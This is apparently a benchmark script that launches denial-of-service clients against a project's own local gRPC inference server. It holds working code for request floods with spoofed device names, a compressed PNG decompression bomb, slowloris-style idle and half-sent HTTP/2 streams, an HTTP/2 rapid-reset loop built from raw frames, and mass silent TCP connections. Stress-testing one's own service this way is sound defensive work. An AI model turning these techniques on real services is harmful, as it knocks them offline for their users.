"""Clients that attack a cloud, in processes of their own at low priority. They import neither torch nor the device.

python benchmarks/_attackers.py PORT SECONDS ATTACK FINGERPRINT SIDE BLOCKS [TOKEN]

Some speak HTTP/2 themselves, because a gRPC client would keep to the rules. A token makes them a device of the fleet.
"""

from __future__ import annotations

import asyncio
import itertools
import os
import random
import selectors
import socket
import struct
import sys
import threading
import time
import zlib
from collections.abc import Callable, Iterator
from contextlib import suppress
from dataclasses import dataclass

import grpc
import zstandard

from janus_vit.wire import janus_pb2 as pb
from janus_vit.wire.rpc import INFER

VICTIM = "honest"
CONTROL = "flood_of_a_sink"
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING = 0, 1, 3, 4, 6
_ACK, _END_HEADERS = 1, 4
_FRAME_BYTES = 16_384
_HALF_BYTES = 100_000
_CONNECT_S = 0.02  # an attacker does not wait for a connection that the cloud drops


@dataclass(frozen=True, slots=True)
class Target:
    """What is attacked.

    Attributes:
        port: of the cloud, on this machine.
        until_s: when the attack ends, on the clock of `time.monotonic`.
        fingerprint: of the cloud's model.
        side: width and height of its input, in pixels.
        blocks: their number.
        token: that of a device of the fleet, or empty.
    """

    port: int
    until_s: float
    fingerprint: str
    side: int
    blocks: int
    token: str

    @property
    def metadata(self) -> tuple[tuple[str, str], ...]:
        """Metadata of each call."""
        return (("authorization", f"Bearer {self.token}"),) if self.token else ()


def new_names(target: Target) -> None:
    """50 callers that send valid frames without a pause, under a new name each time."""
    asyncio.run(_callers(target, 50, lambda: _frame(target, f"n{random.random()}")))


def stolen_name(target: Target) -> None:
    """24 callers that send valid frames without a pause, under the name of the honest device."""
    asyncio.run(_callers(target, 24, lambda: _frame(target, VICTIM)))


def urgent_frames(target: Target) -> None:
    """16 callers that send valid frames without a pause, whose deadlines are always the next ones."""
    asyncio.run(_callers(target, 16, lambda: _frame(target, "urgent", time_left_s=0.08)))


def decode_bombs(target: Target) -> None:
    """32 callers whose small bodies unpack to hundreds of megabytes."""
    body = zstandard.ZstdCompressor(level=19).compress(_png_bomb(target.side))
    asyncio.run(_callers(target, 32, lambda: _frame(target, "bomb", "png+zstd", body)))


def idle_streams(target: Target) -> None:
    """1,000 streams that never send a message, on 50 connections."""
    with selectors.DefaultSelector() as selector:
        while time.monotonic() < target.until_s:
            connections = [_Http2(target) for _ in range(50)]
            for connection in connections:
                for _ in range(20):
                    connection.open_stream()
            _hold(selector, connections, target.until_s)


def half_messages(target: Target) -> None:
    """400 streams that send half of a message, on 40 connections."""
    with selectors.DefaultSelector() as selector:
        while time.monotonic() < target.until_s:
            connections = [_Http2(target) for _ in range(40)]
            for connection in connections:
                for _ in range(10):
                    connection.send_half(connection.open_stream())
            _hold(selector, connections, target.until_s)


def opened_and_reset(target: Target) -> None:
    """As many streams as possible, each reset as soon as it is open."""
    while time.monotonic() < target.until_s:
        connection = _Http2(target)
        while connection.usable and time.monotonic() < target.until_s:
            for _ in range(64):
                connection.reset(connection.open_stream())
        connection.close()


def silent_connections(target: Target) -> None:
    """500 TCP connections that send nothing, opened again when they are cut."""
    held: list[socket.socket] = []
    while time.monotonic() < target.until_s:
        with suppress(OSError):
            held.append(socket.create_connection(("127.0.0.1", target.port), timeout=_CONNECT_S))
        if len(held) > 500:
            held.pop(0).close()
        if len(held) % 50 == 0:
            time.sleep(0.05)


def flood_of_a_sink(target: Target) -> None:
    """As many bytes as possible to a socket of this process itself: what the machine alone does to other programs."""
    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_connection(server.getsockname()) as sender:
        sink, _ = server.accept()
        with sink:
            threading.Thread(target=lambda: all(iter(lambda: sink.recv(1 << 16), b"")), daemon=True).start()
            while time.monotonic() < target.until_s:
                sender.sendall(bytes(1 << 16))


ATTACKS: dict[str, Callable[[Target], None]] = {
    attack.__name__: attack
    for attack in (
        new_names,
        stolen_name,
        urgent_frames,
        decode_bombs,
        idle_streams,
        half_messages,
        opened_and_reset,
        silent_connections,
    )
}


def _frame(target: Target, device: str, payload: str = "tensor", body: bytes = b"", time_left_s: float = 1.0) -> bytes:
    """A request that a device could send."""
    return pb.InferRequest(
        wire_version=1,
        fingerprint=target.fingerprint,
        payload=payload,
        merges=[0] * target.blocks,
        time_left_s=time_left_s,
        device=device,
        body=body or bytes(4 * 3 * target.side**2),
    ).SerializeToString()


async def _callers(target: Target, callers: int, frame: Callable[[], bytes]) -> None:
    options = [("grpc.use_local_subchannel_pool", 1)]

    async def call() -> None:
        async with grpc.aio.insecure_channel(f"127.0.0.1:{target.port}", options) as channel:
            method = channel.stream_unary(INFER)
            while time.monotonic() < target.until_s:
                with suppress(grpc.RpcError):
                    await method(iter([frame()]), timeout=5.0, metadata=target.metadata)

    await asyncio.wait([asyncio.create_task(call()) for _ in range(callers)], timeout=target.until_s - time.monotonic())


def _png_bomb(side: int) -> bytes:
    """A PNG file with hundreds of chunks of a megabyte that no decoder needs."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
    pixels = chunk(b"IDAT", zlib.compress(bytes(side * (1 + 3 * side))))
    return head + 64 * chunk(b"iCCP", bytes(1_000_000)) + pixels + chunk(b"IEND", b"")


def _hold(selector: selectors.BaseSelector, connections: list[_Http2], until_s: float) -> None:
    """Keep connections open until half of them are cut, or the time is over."""
    for connection in connections:
        selector.register(connection.socket, selectors.EVENT_READ, connection)
    left = len(connections)
    while left > len(connections) // 2 and time.monotonic() < until_s:
        for key, _ in selector.select(timeout=0.2):
            if not key.data.answer():
                selector.unregister(key.fileobj)
                left -= 1
    for key in list(selector.get_map().values()):
        selector.unregister(key.fileobj)
    for connection in connections:
        connection.close()


class _Http2:
    """One HTTP/2 connection that keeps to no rules."""

    def __init__(self, target: Target) -> None:
        self._ids = itertools.count(1, 2)
        self._headers = b"".join(_literal(name, value) for name, value in _header_fields(target))
        self.usable = True
        self.socket = socket.socket()
        with suppress(OSError):
            self.socket.settimeout(_CONNECT_S)
            self.socket.connect(("127.0.0.1", target.port))
            self.socket.settimeout(2.0)
        self._send(_PREFACE + _packet(_SETTINGS, 0, 0, b""))

    def open_stream(self) -> int:
        """Begin a call, and return the number of its stream."""
        number = next(self._ids)
        self._send(_packet(_HEADERS, _END_HEADERS, number, self._headers))
        return number

    def send_half(self, number: int) -> None:
        """Send the first bytes of a message on a stream."""
        self._send(_packet(_DATA, 0, number, b"\0" + struct.pack(">I", _HALF_BYTES) + bytes(_FRAME_BYTES - 5)))

    def reset(self, number: int) -> None:
        """Give a stream up."""
        self._send(_packet(_RESET, 0, number, struct.pack(">I", 8)))

    def answer(self) -> bool:
        """Read what the server sent, confirm its settings and pings. Returns whether the connection is open."""
        try:
            data = self.socket.recv(1 << 16)
        except OSError:
            data = b""
        for kind, flags, payload in _packets(data):
            if kind in (_SETTINGS, _PING) and not flags & _ACK:
                self._send(_packet(kind, _ACK, 0, payload if kind == _PING else b""))
        self.usable = self.usable and bool(data)
        return self.usable

    def close(self) -> None:
        """Close the connection."""
        self.socket.close()

    def _send(self, data: bytes) -> None:
        try:
            self.socket.sendall(data)
        except OSError:
            self.usable = False


def _header_fields(target: Target) -> Iterator[tuple[str, str]]:
    yield from ((":method", "POST"), (":scheme", "http"), (":path", INFER), (":authority", "cloud"))
    yield from (("te", "trailers"), ("content-type", "application/grpc"), ("grpc-timeout", "60S"))
    yield from target.metadata


def _literal(name: str, value: str) -> bytes:
    """A header field of HPACK without compression; both parts have less than 127 bytes."""
    return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()


def _packet(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _packets(data: bytes) -> Iterator[tuple[int, int, bytes]]:
    """Whole packets at the start of what was read; the rest does not matter to an attacker."""
    while len(data) >= 9:
        end = 9 + int.from_bytes(data[:3], "big")
        if len(data) >= end:
            yield data[3], data[4], data[9:end]
        data = data[end:]


if __name__ == "__main__":
    os.nice(10)  # on the internet they would have machines of their own
    port, seconds, name, fingerprint, side, blocks, *token = sys.argv[1:]
    until_s = time.monotonic() + float(seconds)
    run = ATTACKS.get(name, flood_of_a_sink)
    run(Target(int(port), until_s, fingerprint, int(side), int(blocks), token[0] if token else ""))
